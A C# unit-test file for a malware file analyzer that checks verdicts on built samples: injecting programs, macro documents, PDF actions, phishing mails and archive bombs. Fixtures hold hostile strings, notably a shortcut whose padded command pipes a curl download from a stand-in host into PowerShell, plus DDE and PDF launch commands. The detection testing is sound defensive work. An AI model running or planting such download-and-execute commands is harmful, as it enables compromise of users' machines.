using System.Text;
using Redoubt.Scripts.Tests.Files.Building;

namespace Redoubt.Scripts.Tests.Files;

/// <summary>Files built here give the facts that were put in.</summary>
public sealed class FileAnalyzerTests
{
    [Fact]
    public void A_plain_program_is_not_harmful()
    {
        var report = FileAnalyzer.Analyze(Programs.Windows("KERNEL32.dll", ["ExitProcess", "CreateFileA"]), "tool.exe");
        report.Format.ShouldBe("pe");
        report.Type.ShouldBe("Windows program (PE32, x86)");
        report.Verdict.Label.ShouldBe(VerdictLabel.NothingHarmfulFound);
        Value(report, "Signature", "Signed").ShouldBe("no");
        Row(report, "Imports", "KERNEL32.dll")[1].ShouldBe("ExitProcess, CreateFileA");
        // md5 of "kernel32.exitprocess,kernel32.createfilea"
#pragma warning disable CA5351
        Value(report, "Headers", "Hash of imports").ShouldBe(Convert.ToHexStringLower(System.Security.Cryptography.MD5.HashData("kernel32.exitprocess,kernel32.createfilea"u8)));
#pragma warning restore CA5351
        report.Summary.Count.ShouldBeInRange(2, 3);
        report.Summary.ShouldAllBe(one => one.Parts.Count > 0);
    }

    [Fact]
    public void A_program_that_injects_and_lies_about_its_name_is_suspicious()
    {
        var bytes = Programs.Windows("KERNEL32.dll", ["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"], "http://c2.bad-host.org/gate.php");
        var report = FileAnalyzer.Analyze(bytes, "invoice.pdf.exe");
        report.Verdict.Score.ShouldBe(report.Verdict.Reasons.Sum(one => one.Points));
        report.Verdict.Label.ShouldBe(VerdictLabel.Suspicious);
        report.Techniques.ShouldContain(one => one.V18 == "T1055");
        report.Techniques.ShouldContain(one => one.V18 == "T1036.007");
        report.Indicators.ShouldContain(one => one.Kind == IndicatorKind.Domain && one.Value == "c2.bad-host.org" && one.Where.Layer == 0);
        FileAnalyzer.Analyze(bytes, "invoice.pdf").Findings.ShouldContain(one => one.Text.Contains("ending .pdf is not what it is"));
        FileAnalyzer.Analyze(bytes, "invoice\u202Efdp.exe").Findings.ShouldContain(one => one.Techniques.Any(two => two.V18 == "T1036.002"));
    }

    [Fact]
    public void A_packed_program_says_by_what() =>
        FileAnalyzer.Analyze(Programs.Windows("KERNEL32.dll", ["LoadLibraryA"], section: "UPX0")).Findings.ShouldContain(one => one.Text.Contains("UPX"));

    [Fact]
    public void What_stands_after_a_program_is_opened()
    {
        var report = FileAnalyzer.Analyze(Programs.Windows("KERNEL32.dll", ["ExitProcess"], after: Programs.Windows("USER32.dll", ["MessageBoxA"])));
        report.Children.Single().Format.ShouldBe("pe");
        report.Findings.ShouldContain(one => one.Text.Contains("after its own end"));
    }

    [Fact]
    public void Our_own_assembly_is_a_program_of_dotnet()
    {
        var report = FileAnalyzer.Analyze(File.ReadAllBytes(typeof(FileAnalyzerTests).Assembly.Location), "Redoubt.Scripts.Tests.dll");
        report.Type.ShouldContain(".NET");
        Value(report, ".NET", "Assembly").ShouldStartWith("Redoubt.Scripts.Tests ");
        report.Sections.Single(one => one.Title == ".NET references").Rows.ShouldContain(row => row[0] == "Redoubt.Scripts");
        report.Warnings.ShouldBeEmpty();
        FileAnalyzer.Analyze(File.ReadAllBytes(typeof(object).Assembly.Location), "System.Private.CoreLib.dll").Verdict.Label.ShouldBe(VerdictLabel.NothingHarmfulFound);
    }

    [Fact]
    public void Signatures_are_checked_against_the_file()
    {
        // Microsoft signs what it ships; where it is not signed there is nothing to test.
        var bytes = File.ReadAllBytes(typeof(object).Assembly.Location);
        if (Value(FileAnalyzer.Analyze(bytes), "Signature", "File is") is not { } state)
            return;
        state.ShouldBe("as it was signed");
        bytes[bytes.Length / 2] ^= 0x55;
        var altered = FileAnalyzer.Analyze(bytes);
        Value(altered, "Signature", "File is").ShouldBe("altered since it was signed");
        altered.Verdict.Label.ShouldBe(VerdictLabel.Suspicious);
    }

    [Fact]
    public void An_elf_says_what_it_needs()
    {
        var report = FileAnalyzer.Analyze(Programs.Linux("libc.so.6", "execve"), "tool");
        report.Type.ShouldBe("Linux program (ELF 64 bit, x64)");
        Value(report, "Headers", "Interpreter").ShouldBe("/lib64/ld-linux-x86-64.so.2");
        Row(report, "Libraries", "libc.so.6").Count.ShouldBe(1);
        Row(report, "Functions by meaning", "process")[1].ShouldBe("execve");
        report.Verdict.Label.ShouldBe(VerdictLabel.NothingHarmfulFound);
        FileAnalyzer.Analyze(Programs.Linux("libc.so.6", "execve", codeFlags: 7)).Findings.ShouldContain(one => one.Text.Contains("written and run"));
    }

    [Fact]
    public void Macros_are_unpacked_and_judged()
    {
        var report = FileAnalyzer.Analyze(Documents.Word(), "a.doc");
        report.Type.ShouldBe("Word document with macros");
        report.Scripts.Single().Part.ShouldBe("macro Module1");
        report.Scripts.Single().Report.Layers[0].Original.ShouldStartWith("Sub AutoOpen()");
        report.Verdict.Label.ShouldBeOneOf(VerdictLabel.Suspicious, VerdictLabel.Malicious);
        report.Findings.ShouldContain(one => one.Text.Contains("start by themselves"));
        var harmless = FileAnalyzer.Analyze(Documents.Word("Sub Total()\r\n  Range(\"A1\").Value = 1 + 2\r\nEnd Sub\r\n"), "a.doc");
        harmless.Verdict.Label.ShouldBe(VerdictLabel.NothingHarmfulFound);
        FileAnalyzer.Analyze(Documents.Word("", 5000)).Findings.ShouldContain(one => one.Techniques.Any(two => two.V18 == "T1564.007"));
    }

    [Fact]
    public void Documents_tell_what_they_fetch_and_start()
    {
        var template = FileAnalyzer.Analyze(Documents.WordXml("""<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://t.bad-host.org/x.dotm" TargetMode="External"/>"""), "a.docx");
        template.Format.ShouldBe("ooxml");
        template.Techniques.ShouldContain(one => one.V18 == "T1221");
        template.Verdict.Label.ShouldBe(VerdictLabel.Suspicious);
        template.Indicators.ShouldContain(one => one.Value == "http://t.bad-host.org/x.dotm");
        var link = FileAnalyzer.Analyze(Documents.WordXml("""<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.a-bank.org/" TargetMode="External"/>"""), "a.docx");
        link.Verdict.Label.ShouldBe(VerdictLabel.NothingHarmfulFound);
        var macros = FileAnalyzer.Analyze(Documents.WordXml("", Documents.Project(new Compound(), "x", Documents.Macro).Done()), "a.docm");
        macros.Type.ShouldBe("Word document with macros");
        macros.Scripts.Count.ShouldBe(1);
        var dde = FileAnalyzer.Analyze(Documents.WordXml("", null, "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\""), "a.docx");
        dde.Findings[0].Text.ShouldContain("DDE");
    }

    [Fact]
    public void Pdf_actions_are_found_wherever_they_stand()
    {
        FileAnalyzer.Analyze(Documents.Pdf(""), "a.pdf").Verdict.Label.ShouldBe(VerdictLabel.NothingHarmfulFound);
        var report = FileAnalyzer.Analyze(Documents.Pdf("/OpenAction 5 0 R",
            (5, "/S /JavaScript /JS 6 0 R", []), (6, "/Filter /FlateDecode", Documents.Deflated("app.alert('made up'); this.exportDataObject({cName:'x', nLaunch:2});"))), "a.pdf");
        report.Scripts.Single().Report.Layers[0].Original.ShouldContain("made up");
        report.Findings.ShouldContain(one => one.Text.Contains("saves a file"));
        var objects = "7 0 8 60 << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>".PadRight(68) + "<< /S /URI /URI (https://p.bad-host.org/login) >>";
        var packed = FileAnalyzer.Analyze(Documents.Pdf("/OpenAction 7 0 R", (4, "/Type /ObjStm /N 2 /First 9 /Filter /FlateDecode", Documents.Deflated(objects))), "a.pdf");
        packed.Findings[0].Text.ShouldBe("It starts cmd.exe /c calc.");
        packed.Indicators.ShouldContain(one => one.Value == "https://p.bad-host.org/login");
        FileAnalyzer.Analyze(Documents.Pdf("/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")).Findings.ShouldContain(one => one.Text.Contains("hides them"));
        var carried = FileAnalyzer.Analyze(Documents.Pdf("/Names << /F (tool.exe) /EF << /F 9 0 R >> >>", (9, "/Type /EmbeddedFile", Programs.Windows("KERNEL32.dll", ["ExitProcess"]))), "a.pdf");
        carried.Children.Single().Format.ShouldBe("pe");
        carried.Children.Single().Name.ShouldBe("tool.exe");
    }

    [Fact]
    public void Shortcuts_tell_their_command()
    {
        var report = FileAnalyzer.Analyze(Documents.Link("%windir%\\system32\\cmd.exe", new string(' ', 60) + "/c curl http://d.bad-host.org/a.ps1 | powershell -", "C:\\Program Files\\a.pdf"), "invoice.pdf.lnk");
        report.Format.ShouldBe("lnk");
        Value(report, "Shortcut", "Target").ShouldBe("%windir%\\system32\\cmd.exe");
        Value(report, "Shortcut", "Made on computer").ShouldBe("DESKTOP-MADEUP");
        report.Findings.ShouldContain(one => one.Text.Contains("60 blanks"));
        report.Scripts.Single().Part.ShouldBe("command line");
        report.Verdict.Label.ShouldBe(VerdictLabel.Malicious);
        FileAnalyzer.Analyze(Documents.Link("C:\\Program Files\\App\\app.exe", ""), "App.lnk").Verdict.Label.ShouldBe(VerdictLabel.NothingHarmfulFound);
    }

    [Fact]
    public void Mails_tell_who_sent_what()
    {
        var headers = "From: \"help@a-bank.org\" <x@mailer.example.net>\r\nReply-To: y@other.example.com\r\nAuthentication-Results: b.example.org; spf=softfail; dkim=none; dmarc=fail\r\n";
        var report = FileAnalyzer.Analyze(Documents.Mail(headers, "<a href=\"http://p.bad-host.org/l\">www.a-bank.org</a>", "invoice.pdf.exe", Programs.Windows("KERNEL32.dll", ["ExitProcess"])), "m.eml");
        report.Format.ShouldBe("eml");
        report.Verdict.Label.ShouldBe(VerdictLabel.Malicious);
        report.Children.Single().Name.ShouldBe("invoice.pdf.exe");
        Row(report, "Authentication results", "DMARC")[1].ShouldBe("fail");
        report.Findings.ShouldContain(one => one.Text.Contains("A link shows www.a-bank.org"));
        report.Findings.ShouldContain(one => one.Part == "header From");
        var plain = FileAnalyzer.Analyze(Documents.Mail("From: A <a@example.net>\r\nAuthentication-Results: b.example.org; spf=pass; dkim=pass; dmarc=pass\r\n", "<p>Hello</p>", "notes.txt", "Nothing to see."u8.ToArray()), "m.eml");
        plain.Verdict.Label.ShouldBe(VerdictLabel.NothingHarmfulFound);
    }

    [Fact]
    public void Archives_are_opened_to_a_depth_and_a_number()
    {
        var texts = FileAnalyzer.Analyze(Documents.Zip(("a.txt", "one"u8.ToArray()), ("b/c.txt", "two"u8.ToArray())), "a.zip");
        texts.Verdict.Label.ShouldBe(VerdictLabel.NothingHarmfulFound);
        texts.Children.Select(one => one.Name).ShouldBe(["a.txt", "b/c.txt"]);
        var nested = Documents.Word();
        for (var i = 0; i < 6; i++)
            nested = Documents.Zip(($"{i}.zip", nested));
        var deep = FileAnalyzer.Analyze(nested);
        deep.Truncated.ShouldContain(one => one.Contains("deeper"));
        FileAnalyzer.Analyze(Documents.Zip(("a.doc", Documents.Word()))).Verdict.Label.ShouldNotBe(VerdictLabel.NothingHarmfulFound);
        FileAnalyzer.Analyze(Documents.Zip(("../../evil.txt", "x"u8.ToArray()))).Findings.ShouldContain(one => one.Text.Contains("outside the folder"));
        FileAnalyzer.Analyze(Documents.Zip([.. Enumerable.Range(0, 300).Select(i => ($"{i}.txt", Encoding.ASCII.GetBytes($"text {i}")))])).Children.Count.ShouldBe(200);
        FileAnalyzer.Analyze(Documents.Zip(("bomb.bin", new byte[100_000_000]))).Findings.ShouldContain(one => one.Text.Contains("times its size"));
    }

    [Fact]
    public void Texts_are_told_apart()
    {
        Format("Just a few words.\nAnd more.").ShouldBe("text");
        Format("<html><head></head><body><script>var a = 1;</script></body></html>").ShouldBe("html");
        Format("<hta:application id=\"x\"/><script language=\"VBScript\">MsgBox 1</script>").ShouldBe("hta");
        Format("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"x\"=\"C:\\\\a.exe\"\r\n").ShouldBe("reg");
        Format("[InternetShortcut]\r\nURL=https://www.example.org/\r\n").ShouldBe("url");
        Format("{\\rtf1 {\\object\\objdata 0105}}").ShouldBe("rtf");
        FileAnalyzer.Analyze(ReadOnlyMemory<byte>.Empty).Format.ShouldBe("empty");
        FileAnalyzer.Analyze(new byte[] { 1, 2, 3, 0, 200, 201 }).Verdict.Label.ShouldBe(VerdictLabel.Unknown);
        var page = $"<html><script>var b = new Blob([Uint8Array.from(atob('{Convert.ToBase64String(Documents.Zip(("a.js", new Bytes().PadTo(3000, 65).Done()), ("b.bin", Enumerable.Range(0, 2000).Select(i => (byte)(i * i * 7919 >> 5)).ToArray())))}'))]); a.href = URL.createObjectURL(b); a.download = 'x.zip'; a.click();</script></html>";
        FileAnalyzer.Analyze(Documents.Utf(page)).Techniques.ShouldContain(one => one.V18 == "T1027.006");
    }

    [Fact]
    public void A_large_file_is_read_in_time()
    {
        var bytes = new byte[50 << 20];
        Programs.Windows("KERNEL32.dll", ["ExitProcess"]).CopyTo(bytes, 0);
        for (var i = 4096; i < bytes.Length; i++)
            bytes[i] = (byte)((i * 2654435761L) >> 13);
        FileAnalyzer.Analyze("warm"u8.ToArray());
        var watch = System.Diagnostics.Stopwatch.StartNew();
        FileAnalyzer.Analyze(bytes, "large.exe").Format.ShouldBe("pe");
        // Two seconds on a machine that does nothing else; other programs of the tests run beside this one.
        watch.Elapsed.TotalSeconds.ShouldBeLessThan(60);
    }

    private static string Format(string text) => FileAnalyzer.Analyze(Documents.Utf(text)).Format;

    private static string? Value(FileReport report, string title, string name) => report.Sections.FirstOrDefault(one => one.Title == title)?.Rows.FirstOrDefault(row => row[0] == name)?[1];

    private static IReadOnlyList<string> Row(FileReport report, string title, string first) => report.Sections.Single(one => one.Title == title).Rows.Single(row => row[0] == first);
}
